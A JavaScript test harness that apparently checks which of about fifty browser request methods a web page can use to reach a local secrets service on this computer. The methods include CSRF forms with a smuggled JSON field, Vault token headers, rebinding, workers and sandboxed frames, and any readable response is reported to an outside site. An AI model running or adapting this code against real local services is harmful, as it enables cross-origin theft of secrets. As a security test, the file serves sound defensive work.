// What a web page can try against a port of this computer. CONFIG.targets are tried one
// after the other with each means; CONFIG.path is where a secret is, and CONFIG.token may
// read it: a page would not have one. Every path ends in "attack-" and the means. What
// the page could read is reported to CONFIG.site.
const { targets, path, token, site } = CONFIG;

const report = (kind, body) => fetch(`${site}/${kind}`, { method: 'POST', mode: 'no-cors', body });

const readable = (means, text) => report('read', `${means}: ${text}`);

// add puts an element into the page and waits until it is loaded or has failed.
function add(tag, attributes, parent = document.body) {
  return new Promise((done) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.onload = element.onerror = element.onloadeddata = () => done(element);
    parent.append(element);
  });
}

async function request(means, url, options) {
  const answer = await fetch(url, { referrerPolicy: 'no-referrer', ...options });
  if (answer.type !== 'opaque' && answer.type !== 'opaqueredirect') await readable(means, await answer.text());
}

// form submits a form into a frame.
async function form(url, attributes) {
  const frame = document.createElement('iframe');
  frame.name = `frame${Math.random()}`;
  document.body.append(frame);
  const element = document.createElement('form');
  for (const [name, value] of Object.entries({ action: url, target: frame.name, rel: 'noreferrer', ...attributes })) element.setAttribute(name, value);
  const input = document.createElement('input');
  input.name = '{"password":"x","y":"';
  input.value = '"}';
  element.append(input);
  document.body.append(element);
  const loaded = new Promise((done) => { frame.onload = done; });
  element.submit();
  await loaded;
}

// inWorker runs a script in a worker until it says that it is done.
function inWorker(script) {
  return new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
    worker.onmessage = worker.onerror = done;
  });
}

function socket(means, url, open) {
  return new Promise((done) => {
    const s = open(url);
    s.onopen = () => { readable(means, 'open'); done(); };
    s.onmessage = (event) => readable(means, event.data);
    s.onerror = () => { s.close(); done(); };
  });
}

const header = { 'X-Vault-Token': token, 'X-Vault-Request': 'true' };
const same = (means) => (url) => request(means, url, { mode: 'same-origin', headers: header });
const redirected = (url) => `${site}/redirect?to=${encodeURIComponent(url)}`;

const attacks = {
  'fetch-cors': (url) => request('fetch-cors', url, { mode: 'cors' }),
  'fetch-no-cors': (url) => request('fetch-no-cors', url, { mode: 'no-cors' }),
  'fetch-same-origin': same('fetch-same-origin'),
  'fetch-post': (url) => request('fetch-post', url, { method: 'POST', mode: 'no-cors', body: '{"password":"x"}' }),
  'fetch-keepalive': (url) => request('fetch-keepalive', url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
  'fetch-credentials': (url) => request('fetch-credentials', url, { credentials: 'include', mode: 'no-cors' }),
  'fetch-header': (url) => request('fetch-header', url, { headers: header }),
  'fetch-put': (url) => request('fetch-put', url, { method: 'PUT', body: '{}' }),
  'fetch-list': (url) => request('fetch-list', url, { method: 'LIST' }),
  'fetch-redirected': (url) => request('fetch-redirected', redirected(url), { method: 'POST', mode: 'no-cors', body: '{}' }),
  xhr: (url) => new Promise((done) => {
    const x = new XMLHttpRequest();
    x.onloadend = () => done(x.status && readable('xhr', x.responseText));
    x.open('POST', url);
    x.send('{}');
  }),
  beacon: (url) => navigator.sendBeacon(url, '{"password":"x"}'),
  'form-get': (url) => form(url, { method: 'get' }),
  'form-post': (url) => form(url, { method: 'post' }),
  'form-text': (url) => form(url, { method: 'post', enctype: 'text/plain' }),
  'form-multipart': (url) => form(url, { method: 'post', enctype: 'multipart/form-data' }),
  'form-redirected': (url) => form(redirected(url), { method: 'post' }),
  img: (url) => add('img', { src: url, referrerpolicy: 'no-referrer' }),
  'img-cors': (url) => add('img', { src: url, crossorigin: 'use-credentials' }),
  'img-redirected': (url) => add('img', { src: redirected(url), referrerpolicy: 'no-referrer' }),
  script: (url) => add('script', { src: url, referrerpolicy: 'no-referrer' }),
  module: (url) => add('script', { src: url, type: 'module' }),
  import: (url) => import(url),
  stylesheet: (url) => add('link', { rel: 'stylesheet', href: url, referrerpolicy: 'no-referrer' }),
  preload: (url) => add('link', { rel: 'preload', as: 'image', href: url, referrerpolicy: 'no-referrer' }),
  prefetch: (url) => add('link', { rel: 'prefetch', href: url, referrerpolicy: 'no-referrer' }),
  manifest: (url) => add('link', { rel: 'manifest', href: url }, document.head),
  icon: (url) => add('link', { rel: 'icon', href: url }, document.head),
  iframe: (url) => add('iframe', { src: url, referrerpolicy: 'no-referrer' }),
  object: (url) => add('object', { data: url, type: 'text/html' }),
  embed: (url) => add('embed', { src: url, type: 'text/html' }),
  video: (url) => add('video', { src: url, preload: 'auto' }),
  audio: (url) => add('audio', { src: url, preload: 'auto' }),
  background: (url) => { add('div', { style: `width: 9px; height: 9px; background: url("${url}")` }); },
  font: (url) => new FontFace('attack', `url("${url}")`).load(),
  ping: (url) => {
    const link = document.createElement('a');
    link.href = '#x';
    link.ping = url;
    document.body.append(link);
    link.click();
  },
  popup: (url) => { window.open(url, '_blank', 'noreferrer'); },
  websocket: (url) => socket('websocket', url.replace(/^http/, 'ws'), (u) => new WebSocket(u)),
  eventsource: (url) => socket('eventsource', url, (u) => new EventSource(u, { withCredentials: true })),
  worker: (url) => inWorker(`fetch(${JSON.stringify(url)}, {mode: 'no-cors'}).finally(() => postMessage(0))`),
  'import-scripts': (url) => inWorker(`try { importScripts(${JSON.stringify(url)}) } finally { postMessage(0) }`),
  // The origin of a sandboxed frame is "null".
  sandbox: (url) => add('iframe', { sandbox: 'allow-scripts allow-forms', srcdoc: `<meta name="referrer" content="no-referrer"><script>fetch(${JSON.stringify(url)}, {mode: 'no-cors'})</${'script'}>` }),
  'data-frame': (url) => add('iframe', { src: `data:text/html,<img src="${url}">` }),
  'refresh-frame': (url) => add('iframe', { srcdoc: `<meta name="referrer" content="no-referrer"><meta http-equiv="refresh" content="0;url=${url}">` }),
  'service-worker': (url) => navigator.serviceWorker.register(`/worker.js?to=${encodeURIComponent(url)}`, { scope: `/worker?${encodeURIComponent(url)}` }),
  'own-service-worker': (url) => navigator.serviceWorker.register(url),
};

async function run() {
  if (CONFIG.rebind) await fetch('/rebind', { method: 'POST' });
  for (const [means, attack] of Object.entries(attacks)) {
    for (const target of targets) {
      new Promise((done) => { done(attack(`${target}${path}attack-${means}`)); }).catch(() => {});
    }
  }
}

run();
